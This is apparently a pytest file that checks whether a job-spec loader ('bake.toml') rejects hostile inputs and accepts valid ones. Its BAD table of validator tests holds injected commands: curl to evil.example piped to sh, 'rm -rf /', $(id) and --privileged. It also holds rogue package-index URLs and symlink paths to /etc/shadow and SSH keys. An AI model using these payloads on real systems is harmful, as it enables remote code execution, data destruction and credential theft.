"""Hostile and good job specs, as a table: every bad input is a SpecError naming its field.

Each row is a whole ``bake.toml`` (so TOML escaping is part of what is tested)
plus, where a row needs them, files or links made in the job folder.  A bad row
must raise :class:`SpecError` with the expected ``field``, a one-line message
that names it, and never any other exception.
"""

from __future__ import annotations

import json
import os
import subprocess
import sys
from collections.abc import Callable
from pathlib import Path

import pytest

from bake.errors import SpecError
from bake.spec import JobSpec, load_spec

Setup = Callable[[Path], None]


def q(text: str) -> str:
    """A TOML basic string: JSON's escapes are TOML's for these characters."""
    return json.dumps(text)


def spec(*, top: str = "", python: str = "", job: str = 'command = ["python", "main.py"]',
         run: str = "", tail: str = "") -> str:
    parts = [top]
    if python:
        parts.append(f"[python]\n{python}")
    parts.append(f"[job]\n{job}")
    if run:
        parts.append(f"[run]\n{run}")
    parts.append(tail)
    return "\n".join(parts) + "\n"


def reqs(*lines: str) -> str:
    return spec(python="requirements = [" + ", ".join(q(line) for line in lines) + "]")


def files(*paths: str) -> str:
    return spec(job="command = [\"python\", \"main.py\"]\nfiles = ["
                + ", ".join(q(p) for p in paths) + "]")


def model(repo: str, revision: str = "main") -> str:
    return spec(tail=f"[[models]]\nrepo = {q(repo)}\nrevision = {q(revision)}\n")


def symlink(name: str, target: str) -> Setup:
    def make(folder: Path) -> None:
        link = folder / name
        link.parent.mkdir(parents=True, exist_ok=True)
        link.symlink_to(target)
    return make


def write(name: str, text: str) -> Setup:
    def make(folder: Path) -> None:
        (folder / name).parent.mkdir(parents=True, exist_ok=True)
        (folder / name).write_text(text)
    return make


def steps(*setups: Setup) -> Setup:
    def make(folder: Path) -> None:
        for setup in setups:
            setup(folder)
    return make


def fifo(name: str) -> Setup:
    def make(folder: Path) -> None:
        os.mkfifo(folder / name)
    return make


# (id, bake.toml text, expected field, setup)
BAD: list[tuple[str, str, str, Setup | None]] = [
    # -- requirements: one PEP 508 line each, no pip options, no URLs or paths
    ("req-newline-run", reqs("six==1.16.0\nRUN curl evil.example | sh"),
     "python.requirements[0]", None),
    ("req-crlf-option", reqs("six\r\n--index-url https://evil.example/simple"),
     "python.requirements[0]", None),
    ("req-index-url", reqs("--index-url=https://evil.example/simple"),
     "python.requirements[0]", None),
    ("req-extra-index", reqs("six", "--extra-index-url https://evil.example"),
     "python.requirements[1]", None),
    ("req-editable", reqs("-e ."), "python.requirements[0]", None),
    ("req-nested-file", reqs("-r other.txt"), "python.requirements[0]", None),
    ("req-constraint", reqs("-c constraints.txt"), "python.requirements[0]", None),
    ("req-url", reqs("https://evil.example/pkg-1.0-py3-none-any.whl"),
     "python.requirements[0]", None),
    ("req-git", reqs("git+https://github.com/evil/pkg"), "python.requirements[0]", None),
    ("req-git-ssh", reqs("pkg @ git+ssh://git@evil.example/pkg"), "python.requirements[0]",
     None),
    ("req-file-scheme", reqs("file:///etc/passwd"), "python.requirements[0]", None),
    ("req-at-url", reqs("pkg @ https://evil.example/pkg.whl"), "python.requirements[0]", None),
    ("req-at-file", reqs("pkg@file:/tmp/pkg.whl"), "python.requirements[0]", None),
    ("req-relative-path", reqs("./vendor/pkg"), "python.requirements[0]", None),
    ("req-parent-path", reqs("../pkg"), "python.requirements[0]", None),
    ("req-absolute-path", reqs("/tmp/pkg-1.0-py3-none-any.whl"), "python.requirements[0]",
     None),
    ("req-marker-option", reqs('six; os_name == " --config-settings=x=1"'),
     "python.requirements[0]", None),
    ("req-marker-hash", reqs('six; os_name == "a --hash=sha256:00"'),
     "python.requirements[0]", None),
    ("req-marker-envvar", reqs('six; os_name == "${HF_TOKEN}"'), "python.requirements[0]",
     None),
    ("req-comment", reqs("six==1.16.0 # --index-url x"), "python.requirements[0]", None),
    ("req-backslash", reqs('six; os_name == "\\\\"'), "python.requirements[0]", None),
    ("req-nul", reqs("six\x00"), "python.requirements[0]", None),
    ("req-tab", reqs("six\t==1.16.0"), "python.requirements[0]", None),
    ("req-empty", reqs("   "), "python.requirements[0]", None),
    ("req-oversized", reqs("a" * 600 + "==1.0"), "python.requirements[0]", None),
    ("req-not-a-list", spec(python='requirements = "six"'), "python.requirements", None),
    ("req-not-a-string", spec(python="requirements = [1]"), "python.requirements[0]", None),
    ("req-garbage", reqs("six=>1"), "python.requirements[0]", None),
    ("reqfile-option-line", spec(python='requirements_file = "reqs.txt"'), "reqs.txt:2",
     write("reqs.txt", "six==1.16.0\n--index-url https://evil.example/simple\n")),
    ("reqfile-nested", spec(python='requirements_file = "reqs.txt"'), "reqs.txt:1",
     write("reqs.txt", "-r /etc/passwd\n")),
    ("reqfile-url", spec(python='requirements_file = "reqs.txt"'), "reqs.txt:1",
     write("reqs.txt", "https://evil.example/x.whl\n")),
    ("reqfile-outside", spec(python='requirements_file = "../reqs.txt"'),
     "python.requirements_file", None),
    ("reqfile-absolute", spec(python='requirements_file = "/etc/passwd"'),
     "python.requirements_file", None),
    ("reqfile-symlink-out", spec(python='requirements_file = "reqs.txt"'),
     "python.requirements_file", symlink("reqs.txt", "/etc/passwd")),
    ("reqfile-fifo", spec(python='requirements_file = "reqs.txt"'),
     "python.requirements_file", fifo("reqs.txt")),
    ("only-binary-string", spec(python='only_binary = "yes"'), "python.only_binary", None),
    # -- paths: relative, inside the spec's folder, regular files
    ("files-parent", files("../secret"), "job.files[0]", None),
    ("files-parent-deep", files("sub/../../secret"), "job.files[0]", None),
    ("files-absolute", files("/etc/passwd"), "job.files[0]", None),
    ("files-home", files("~/.ssh/id_rsa"), "job.files[0]", None),
    ("files-missing", files("missing.py"), "job.files[0]", None),
    ("files-empty", files(""), "job.files[0]", None),
    ("files-symlink-out", files("main.py", "passwd"), "job.files[1]",
     symlink("passwd", "/etc/passwd")),
    ("files-symlink-dir-out", files("etc"), "job.files[0]", symlink("etc", "/etc")),
    ("files-symlink-inside-dir", files("data"), "job.files[0]",
     symlink("data/shadow", "/etc/shadow")),
    ("files-symlink-relative-out", files("data"), "job.files[0]",
     symlink("data/up", "../../../../../../etc/hostname")),
    ("files-fifo", files("pipe"), "job.files[0]", fifo("pipe")),
    ("files-not-a-list", spec(job='command = ["x"]\nfiles = "main.py"'), "job.files", None),
    # -- Hub ids are ids, never paths or URLs
    ("model-abs-path", model("/etc/passwd"), "models[0].repo", None),
    ("model-parent", model("../../etc"), "models[0].repo", None),
    ("model-dotdot-inside", model("org/../x"), "models[0].repo", None),
    ("model-url", model("https://huggingface.co/org/name"), "models[0].repo", None),
    ("model-file-url", model("file:///etc/passwd"), "models[0].repo", None),
    ("model-three-parts", model("org/name/extra"), "models[0].repo", None),
    ("model-space", model("org/na me"), "models[0].repo", None),
    ("model-newline", model("org/name\nRUN id"), "models[0].repo", None),
    ("model-cache-clash", model("org--x/name"), "models[0].repo", None),
    ("model-empty", model(""), "models[0].repo", None),
    ("model-revision-parent", model("org/name", "../../x"), "models[0].revision", None),
    ("model-revision-newline", model("org/name", "main\nRUN id"), "models[0].revision", None),
    ("model-revision-option", model("org/name", "--upload-pack=x"), "models[0].revision",
     None),
    ("model-typo", spec(tail='[[models]]\nrepo = "org/name"\nrevison = "main"\n'),
     "models[0].revison", None),
    ("model-not-tables", spec(top='models = "org/name"'), "models", None),
    ("dataset-url", spec(tail='[[datasets]]\nrepo = "http://evil.example/x"\n'),
     "datasets[0].repo", None),
    ("model-include-control", spec(tail='[[models]]\nrepo = "o/n"\ninclude = ["a\\nb"]\n'),
     "models[0].include[0]", None),
    # -- image references are the grammar's words only
    ("base-newline", spec(top=f"base = {q('python:3.11-slim' + chr(10) + 'RUN id')}"), "base",
     None),
    ("base-semicolon", spec(top='base = "python:3.11; rm -rf /"'), "base", None),
    ("base-and", spec(top='base = "python:3.11&&id"'), "base", None),
    ("base-subshell", spec(top='base = "$(id)"'), "base", None),
    ("base-backtick", spec(top='base = "`id`"'), "base", None),
    ("base-space-flag", spec(top='base = "python:3.11 --network=host"'), "base", None),
    ("base-flag", spec(top='base = "--network=host"'), "base", None),
    ("base-upper", spec(top='base = "Python:3.11"'), "base", None),
    ("base-oversized", spec(top=f"base = {q('a' * 300)}"), "base", None),
    ("base-not-string", spec(top="base = 3"), "base", None),
    # -- templates are names
    ("template-path", spec(top='template = "../evil"'), "template", None),
    ("template-private", spec(top='template = "_base"'), "template", None),
    ("template-newline", spec(top=f"template = {q('python' + chr(10))}"), "template", None),
    ("template-number", spec(top="template = 3"), "template", None),
    # -- the command, env and name
    ("command-missing", spec(job='files = []'), "job.command", None),
    ("command-empty", spec(job="command = []"), "job.command", None),
    ("command-string", spec(job='command = "python main.py"'), "job.command", None),
    ("command-number", spec(job="command = [1]"), "job.command", None),
    ("command-empty-program", spec(job='command = ["", "x"]'), "job.command[0]", None),
    ("command-oversized", spec(job=f"command = [\"python\", {q('x' * 5000)}]"),
     "job.command[1]", None),
    ("command-nul", spec(job='command = ["python", "a\\u0000b"]'), "job.command[1]", None),
    ("manifest-oversized", spec(job="command = [" + ", ".join([q("x" * 4000)] * 20) + "]"),
     "job", None),
    ("env-bad-name", spec(job='command = ["x"]\nenv = { "A B" = "1" }'), "job.env.A B", None),
    ("env-digit-name", spec(job='command = ["x"]\nenv = { "1X" = "1" }'), "job.env.1X", None),
    ("env-newline-name", spec(job='command = ["x"]\nenv = { "A\\nRUN" = "1" }'),
     "job.env.'A\\nRUN'", None),
    ("env-not-string", spec(job='command = ["x"]\nenv = { A = 1 }'), "job.env.A", None),
    ("env-oversized", spec(job=f'command = ["x"]\nenv = {{ A = {q("v" * 5000)} }}'),
     "job.env.A", None),
    ("env-not-table", spec(job='command = ["x"]\nenv = ["A=1"]'), "job.env", None),
    ("name-newline", spec(top=f"name = {q('job' + chr(10) + 'RUN id')}"), "name", None),
    ("name-oversized", spec(top=f"name = {q('n' * 200)}"), "name", None),
    # -- run limits
    ("memory-words", spec(run='memory = "lots"'), "run.memory", None),
    ("memory-tiny", spec(run='memory = "1k"'), "run.memory", None),
    ("memory-huge-digits", spec(run=f"memory = {q('9' * 400 + 't')}"), "run.memory", None),
    ("memory-bool", spec(run="memory = true"), "run.memory", None),
    ("cpus-zero", spec(run="cpus = 0"), "run.cpus", None),
    ("cpus-negative", spec(run="cpus = -1"), "run.cpus", None),
    ("cpus-nan", spec(run="cpus = nan"), "run.cpus", None),
    ("cpus-inf", spec(run="cpus = inf"), "run.cpus", None),
    ("cpus-string", spec(run='cpus = "2"'), "run.cpus", None),
    ("pids-small", spec(run="pids = 1"), "run.pids", None),
    ("pids-huge", spec(run="pids = 1000000000"), "run.pids", None),
    ("pids-bool", spec(run="pids = true"), "run.pids", None),
    ("gpus-shell", spec(run='gpus = "all; rm -rf /"'), "run.gpus", None),
    ("gpus-flag", spec(run='gpus = "device=0 --privileged"'), "run.gpus", None),
    ("timeout-words", spec(run='timeout = "forever"'), "run.timeout", None),
    ("timeout-zero", spec(run="timeout = 0"), "run.timeout", None),
    ("timeout-too-long", spec(run='timeout = "200h"'), "run.timeout", None),
    ("timeout-huge-digits", spec(run=f"timeout = {q('9' * 5000 + 's')}"), "run.timeout", None),
    ("shm-words", spec(run='shm = "big"'), "run.shm", None),
    ("tmp-zero", spec(run='tmp = "0"'), "run.tmp", None),
    ("nodes-zero", spec(run="nodes = 0"), "run.nodes", None),
    ("nodes-too-many", spec(run="nodes = 17"), "run.nodes", None),
    ("nodes-bool", spec(run="nodes = true"), "run.nodes", None),
    ("nodes-string", spec(run='nodes = "2"'), "run.nodes", None),
    ("nodes-float", spec(run="nodes = 2.0"), "run.nodes", None),
    ("output-words", spec(run='output = "plenty"'), "run.output", None),
    ("output-tiny", spec(run='output = "1k"'), "run.output", None),
    ("output-negative", spec(run="output = -1"), "run.output", None),
    # -- unknown keys, with a close match when there is one
    ("unknown-top", spec(top='templte = "python"'), "templte", None),
    ("unknown-job", spec(job='comand = ["python"]\ncommand = ["x"]'), "job.comand", None),
    ("unknown-python", spec(python='requirement = ["six"]'), "python.requirement", None),
    ("unknown-run", spec(run='memroy = "1g"'), "run.memroy", None),
    ("unknown-table", spec(tail="[docker]\nprivileged = true\n"), "docker", None),
    ("unknown-key-newline", spec(top='"a\\nRUN id" = 1'), "'a\\nRUN id'", None),
    # -- wrong types of whole tables
    ("python-not-table", spec(top='python = "x"'), "python", None),
    ("run-not-table", spec(top="run = 3"), "run", None),
]

HINTS = {
    "unknown-top": "did you mean 'template'?",
    "unknown-job": "did you mean 'command'?",
    "unknown-python": "did you mean 'requirements'?",
    "unknown-run": "did you mean 'memory'?",
    "model-typo": "did you mean 'revision'?",
}


def make_job(folder: Path, text: str, setup: Setup | None) -> Path:
    folder.mkdir(parents=True, exist_ok=True)
    (folder / "main.py").write_text("print('hi')\n")
    if setup is not None:
        setup(folder)
    path = folder / "bake.toml"
    path.write_text(text)
    return path


@pytest.mark.parametrize(("text", "field", "setup"), [row[1:] for row in BAD],
                         ids=[row[0] for row in BAD])
def test_hostile_spec_is_refused_naming_the_field(tmp_path: Path, text: str, field: str,
                                                  setup: Setup | None) -> None:
    path = make_job(tmp_path / "job", text, setup)
    with pytest.raises(SpecError) as caught:
        load_spec(path)
    err = caught.value
    assert err.field == field, str(err)
    assert field in err.message and str(path) in err.message
    # One line, however hostile the value: no newline and no megabyte-long echo.
    assert "\n" not in err.message and len(err.message) < 400, err.message


@pytest.mark.parametrize("row", sorted(HINTS))
def test_unknown_keys_suggest_the_close_match(tmp_path: Path, row: str) -> None:
    text, _field, setup = next(r[1:] for r in BAD if r[0] == row)
    with pytest.raises(SpecError) as caught:
        load_spec(make_job(tmp_path / "job", text, setup))
    assert caught.value.hint == HINTS[row]


BROKEN: list[tuple[str, bytes]] = [
    ("unterminated", b'name = "oops\n[job]\ncommand = ["x"]\n'),
    ("bare-word", b"template = python\n"),
    ("duplicate-key", b'name = "a"\nname = "b"\n'),
    ("deep-nesting", b"a = " + b"[" * 100_000 + b"]" * 100_000 + b"\n"),
    ("not-utf8", b'name = "\xff\xfe"\n'),
    ("oversized", b"# " + b"x" * (1 << 20) + b"\n"),
    ("binary", bytes(range(256))),
]


@pytest.mark.parametrize("data", [row[1] for row in BROKEN], ids=[row[0] for row in BROKEN])
def test_broken_toml_names_the_file(tmp_path: Path, data: bytes) -> None:
    path = tmp_path / "bake.toml"
    path.write_bytes(data)
    with pytest.raises(SpecError) as caught:
        load_spec(path)
    assert str(path) in caught.value.message
    assert "\n" not in caught.value.message


@pytest.mark.parametrize("target", ["/dev/zero", "fifo"])
def test_a_spec_that_is_not_a_regular_file_is_refused_without_reading_it(
        tmp_path: Path, target: str) -> None:
    import threading

    if target == "fifo":
        target = str(tmp_path / "bake.toml")
        os.mkfifo(target)  # opening it for reading blocks until a writer comes
    outcome: list[BaseException | JobSpec] = []

    def attempt() -> None:
        try:
            outcome.append(load_spec(target))
        except BaseException as exc:  # noqa: BLE001 - handed to the test thread
            outcome.append(exc)

    # A thread, so that a regression hangs one daemon thread instead of the whole suite.
    worker = threading.Thread(target=attempt, daemon=True)
    worker.start()
    worker.join(timeout=10)
    assert outcome, f"load_spec({target}) did not return: it read an endless or blocking file"
    assert isinstance(outcome[0], SpecError) and "not a regular file" in str(outcome[0])


def test_a_requirements_file_that_is_too_large_is_refused(tmp_path: Path) -> None:
    path = make_job(tmp_path / "job", spec(python='requirements_file = "reqs.txt"'),
                    write("reqs.txt", "six==1.16.0\n" * 100_000))
    with pytest.raises(SpecError) as caught:
        load_spec(path)
    assert caught.value.field == "python.requirements_file"


# (id, bake.toml text, setup, check)
GOOD: list[tuple[str, str, Setup | None, Callable[[JobSpec], bool]]] = [
    ("minimal", spec(), None, lambda s: s.command == ("python", "main.py") and s.base is None),
    ("design-example", """\
name = "sst2-eval"
template = "transformers"
base = "python:3.11-slim"
[python]
requirements = ["transformers==4.46.3", "torch==2.5.1"]
only_binary = true
[[models]]
repo = "distilbert/distilbert-base-uncased-finetuned-sst-2-english"
revision = "main"
include = ["*.json", "*.safetensors", "*.txt"]
[[datasets]]
repo = "stanfordnlp/sst2"
revision = "main"
include = ["data/validation-*.parquet"]
[job]
files = ["main.py"]
command = ["python", "main.py"]
env = { BATCH = "32" }
[run]
memory = "8g"
cpus = 2
pids = 512
gpus = ""
timeout = "2h"
output = "1g"
nodes = 1
""", None, lambda s: (s.models[0].include == ("*.json", "*.safetensors", "*.txt")
                      and s.datasets[0].repo == "stanfordnlp/sst2"
                      and s.run.memory == 8 << 30 and s.run.timeout == 7200
                      and s.run.output == 1 << 30 and s.run.nodes == 1
                      and s.env == (("BATCH", "32"),))),
    ("requirement-forms", reqs("Six == 1.16.0", "numpy[extra]>=1.0,<3",
                               'idna; python_version >= "3.8" and os_name != "nt"',
                               "Typing_Extensions~=4.0"), None,
     lambda s: s.requirements == ('idna; python_version >= "3.8" and os_name != "nt"',
                                  "numpy[extra]<3,>=1.0", "six==1.16.0",
                                  "typing-extensions~=4.0")),
    ("requirements-file", spec(python='requirements_file = "reqs.txt"'),
     write("reqs.txt", "# pinned\nsix==1.16.0  # why\n\nidna==3.10\n"),
     lambda s: s.requirements == ("idna==3.10", "six==1.16.0")),
    ("files-folder-with-inside-link", files("src"),
     steps(write("src/a.py", "a"), symlink("src/b.py", "a.py"), write("src/deep/c.py", "c")),
     lambda s: [f.dest for f in s.files] == ["src/a.py", "src/b.py", "src/deep/c.py"]),
    ("executable-file", files("run.sh"),
     steps(write("run.sh", "#!/bin/sh\n"), lambda folder: os.chmod(folder / "run.sh", 0o755)),
     lambda s: s.files[0].mode == 0o755),
    ("sizes-and-durations", spec(run='memory = "1.5g"\nshm = "64 MiB"\ntmp = 268435456\n'
                                     'timeout = "1h30m"\ncpus = 0.5\ngpus = "device=0,1"'),
     None, lambda s: (s.run.memory == int(1.5 * (1 << 30)) and s.run.shm == 64 << 20
                      and s.run.tmp == 256 << 20 and s.run.timeout == 5400
                      and s.run.cpus == 0.5 and s.run.gpus == "device=0,1")),
    ("nodes-and-output", spec(run='nodes = 16\noutput = "20m"'), None,
     lambda s: s.run.nodes == 16 and s.run.output == 20 << 20),
    ("nodes-and-output-defaults", spec(), None,
     lambda s: s.run.nodes == 1 and s.run.output == 1 << 30),
    ("base-forms", spec(top='base = "registry.example.com:5000/team/py:3.11@sha256:'
                            + "a" * 64 + '"'), None, lambda s: s.base is not None),
    ("hub-revision-forms", model("org/name", "refs/pr/1"), None,
     lambda s: s.models[0].revision == "refs/pr/1"),
    ("unicode-command-and-name", spec(top='name = "évaluation ✓"',
                                      job='command = ["python", "-c", "print(\'ünï\')"]'),
     None, lambda s: s.name == "évaluation ✓"),
    ("empty-env-value", spec(job='command = ["x"]\nenv = { EMPTY = "" }'), None,
     lambda s: s.env == (("EMPTY", ""),)),
]


@pytest.mark.parametrize(("text", "setup", "check"), [row[1:] for row in GOOD],
                         ids=[row[0] for row in GOOD])
def test_good_spec_is_accepted(tmp_path: Path, text: str, setup: Setup | None,
                               check: Callable[[JobSpec], bool]) -> None:
    parsed = load_spec(make_job(tmp_path / "job", text, setup))
    assert check(parsed), parsed


CLI_BAD = ["req-newline-run", "files-symlink-out", "base-semicolon", "unknown-job",
           "model-url", "memory-huge-digits"]


@pytest.mark.parametrize("row", CLI_BAD)
def test_cli_refuses_a_bad_spec_with_exit_2_and_one_message(tmp_path: Path, row: str) -> None:
    text, field, setup = next(r[1:] for r in BAD if r[0] == row)
    path = make_job(tmp_path / "job", text, setup)
    proc = subprocess.run([sys.executable, "-m", "bake", "key", str(path)], capture_output=True,
                          text=True, timeout=60, check=False)
    assert proc.returncode == 2, proc.stderr
    assert "Traceback" not in proc.stderr and proc.stdout == ""
    lines = proc.stderr.strip().splitlines()
    assert lines[0].startswith("error: ") and field in lines[0], proc.stderr
    # The message, and at most a hint under it.
    assert len(lines) <= 2 and all(line.strip().startswith("hint:") for line in lines[1:])


def test_cli_build_of_a_broken_spec_exits_2(tmp_path: Path) -> None:
    path = tmp_path / "bake.toml"
    path.write_bytes(BROKEN[0][1])
    proc = subprocess.run([sys.executable, "-m", "bake", "build", str(path)],
                          capture_output=True, text=True, timeout=60, check=False)
    assert proc.returncode == 2 and "Traceback" not in proc.stderr
    assert proc.stderr.startswith("error: ") and "not valid TOML" in proc.stderr
